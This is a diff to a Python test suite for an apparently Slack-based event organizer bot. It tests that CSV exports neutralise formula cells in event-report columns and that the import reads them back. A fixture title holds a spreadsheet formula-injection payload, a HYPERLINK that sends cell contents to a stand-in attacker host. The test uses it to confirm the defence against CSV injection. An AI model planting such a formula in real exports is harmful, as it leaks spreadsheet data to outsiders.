@@ -12,8 +12,10 @@ from conftest import make_deliverer
 from fakeslack import Fault
 from messages import export
 from services import exports
+from services.imports import import_entries
+from services.listings import read_csv
 from storage import event_fields as fields
-from storage import rsvps
+from storage import reports, rsvps
 from storage.models import Event, EventHost
 
 EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -154,6 +156,57 @@ def test_a_failed_upload_is_retried_and_a_large_export_arrives_whole(slack, serv
     assert worker.run_once()["sent"] == 1
     _, rows = exported_to(slack, "U1")
     assert [row["title"] for row in rows] == [f"Vigil {n}" for n in range(1, 1201)]  # pages of 500, in order
+
+
+def report_on(database, event_id: int, user: str, when, **told) -> None:
+    with database.session() as session:
+        fields_told = dict(turnout=None, press_links=[], official_said=None, photos_url=None, next_step=None) | told
+        reports.save_report(session, session.get(Event, event_id), user, when, **fields_told)
+
+
+def test_the_export_ends_with_each_events_report_neutralised_and_the_import_reads_it_back(bot, slack, services, database, clock):
+    """Turnout, press hits and links, what the official said, photos, next step, who reported and
+    when (and who changed it last): in columns of their own, formula cells neutralised as every
+    other, read back by `organizer-bot import`, which leaves them alone."""
+    now = clock()
+    ids = seed(database, now)
+    report_on(database, ids["past"], "U2", now - timedelta(days=6), turnout=45, official_said="=Rep. Denham's staff promised a meeting",
+              press_links=["https://news.example/modesto", "https://tv.example/clip?id=7"], next_step="-> town hall in March",
+              photos_url="https://photos.example/album/1")
+    report_on(database, ids["past"], "U1", now - timedelta(days=5), turnout=47, official_said="=Rep. Denham's staff promised a meeting",
+              press_links=["https://news.example/modesto", "https://tv.example/clip?id=7"], next_step="-> town hall in March",
+              photos_url="https://photos.example/album/1")  # corrected the next day
+    report_on(database, ids["evil"], "U2", now, turnout=0, next_step="@everyone call your senator")
+    bot.command("/event", "export", user="U1")
+    slack.wait_for("files.completeUploadExternal")
+    _, rows = exported_to(slack, "U1")
+
+    assert list(rows[0])[-len(export.REPORT_COLUMNS):] == list(export.REPORT_COLUMNS) == [
+        "turnout", "press_hits", "press_links", "official_said", "photos_url", "next_step",
+        "reported_by", "reported_at", "report_updated_by", "report_updated_at"]
+    by_id = {int(row["id"]): row for row in rows}
+    past = by_id[ids["past"]]
+    assert (past["turnout"], past["press_hits"], past["press_links"]) == (
+        "47", "2", "https://news.example/modesto\nhttps://tv.example/clip?id=7")
+    assert (past["official_said"], past["next_step"], past["photos_url"]) == (
+        "'=Rep. Denham's staff promised a meeting", "'-> town hall in March", "https://photos.example/album/1")
+    assert (past["reported_by"], past["reported_at"], past["report_updated_by"], past["report_updated_at"]) == (
+        "U2", "2026-11-15T15:00:00+00:00", "U1", "2026-11-16T15:00:00+00:00")
+    evil = by_id[ids["evil"]]
+    assert (evil["turnout"], evil["press_hits"], evil["press_links"], evil["next_step"]) == ("0", "0", "", "'@everyone call your senator")
+    assert all(by_id[ids["mine"]][column] == "" for column in export.REPORT_COLUMNS)  # no report yet
+
+    # The import reads such a file back and leaves the report's columns alone.
+    [shared] = slack.files_in("DU1")
+    entries = read_csv(shared["bytes"].decode("utf-8-sig"), default_timezone="America/Chicago", today=now.date())
+    read_back = {entry.title: entry for entry in entries}
+    assert read_back["Last week's rally"].problems == () and read_back[EVIL_TITLE].problems == ()
+    clock.set(now - timedelta(days=8))  # into another workspace, before the past event, so that it imports too
+    imported = import_entries(services, "T0OTHER", "U9", entries, skip_unreadable=True)
+    assert len(imported.saved) == 5 and [u.entry.title for u in imported.unreadable] == ["Cancelled vigil"]
+    with database.read() as session:
+        titles = {event.title for event in session.query(Event).filter(Event.team_id == "T0OTHER")}
+    assert {EVIL_TITLE, "Last week's rally"} <= titles
 
 
 def test_export_is_in_the_help(bot):
